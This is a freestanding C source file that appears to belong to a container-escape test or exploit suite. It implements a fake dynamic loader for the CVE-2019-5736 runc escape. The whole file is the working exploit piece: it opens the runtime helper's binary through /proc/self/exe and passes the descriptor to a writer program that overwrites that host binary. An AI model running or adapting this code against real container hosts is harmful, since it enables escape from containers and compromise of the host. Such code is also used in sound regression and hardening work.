/* SPDX-License-Identifier: GPL-2.0-or-later */
/* fake_ld: stands in for the guest's /lib64/ld-linux-x86-64.so.2 (issue 10 item 1, the
 * CVE-2019-5736 route). When a "#!/proc/self/exe" script makes exec's helper run its own binary
 * inside the container, the kernel loads this as that binary's interpreter: it opens
 * /proc/self/exe (the helper's binary) O_PATH, and runs /exe_writer with that fd, which writes
 * through it once nothing executes the binary any more. Freestanding: no libc, raw syscalls. */
#define SYS_write 1
#define SYS_open 2
#define SYS_fork 57
#define SYS_execve 59
#define SYS_exit 60
#define O_PATH 010000000

static long sc3(long n, long a, long b, long c)
{
	long r;
	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}

__asm__(".globl _start\n_start:\n xor %rbp, %rbp\n and $-16, %rsp\n call fake_main\n hlt\n");

void fake_main(void)
{
	char exe[] = "/proc/self/exe";
	char prog[] = "/exe_writer";
	char fdarg[4];
	long fd = sc3(SYS_open, (long)exe, O_PATH, 0);
	if (fd < 0 || fd > 99) {
		char m[] = "fake_ld: cannot open /proc/self/exe\n";
		sc3(SYS_write, 2, (long)m, sizeof(m) - 1);
		sc3(SYS_exit, 1, 0, 0);
	}
	int k = 0;
	if (fd >= 10)
		fdarg[k++] = (char)('0' + fd / 10);
	fdarg[k++] = (char)('0' + fd % 10);
	fdarg[k] = 0;
	char *av[3];
	av[0] = prog;
	av[1] = fdarg;
	av[2] = 0;
	char *ev[1];
	ev[0] = 0;
	if (sc3(SYS_fork, 0, 0, 0) == 0) {
		sc3(SYS_execve, (long)prog, (long)av, (long)ev);
		sc3(SYS_exit, 127, 0, 0);
	}
	char m[] = "fake_ld: handed /proc/self/exe on\n";
	sc3(SYS_write, 2, (long)m, sizeof(m) - 1);
	sc3(SYS_exit, 0, 0, 0);
}
